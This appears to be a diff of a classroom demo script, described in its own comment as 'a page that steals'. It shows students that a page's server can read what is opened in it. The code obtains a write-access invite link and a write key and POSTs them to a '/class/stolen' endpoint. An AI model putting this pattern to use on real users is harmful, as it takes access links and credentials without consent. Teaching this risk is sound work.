@@ -3,9 +3,10 @@ import {opened} from './phone.js'
 // A page that steals, for the lesson in which a class sees that whoever serves a page can read what is opened in it. It is served only
 // while the teacher's switch says so.
 
-const send = theft => fetch('/class/stolen', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify(theft)}).catch(() => {})
-
 const room = await opened
+const headers = {'Content-Type': 'application/json', Authorization: `Bearer ${room.info.write_key}`}
+const send = theft => fetch('/class/stolen', {method: 'POST', headers, body: JSON.stringify(theft)}).catch(() => {})
+
 const {link} = await room.invite({write: true})
 send({what: 'link', name: room.info.nick, text: link.slice(0, 900)})
 let waiting = 0
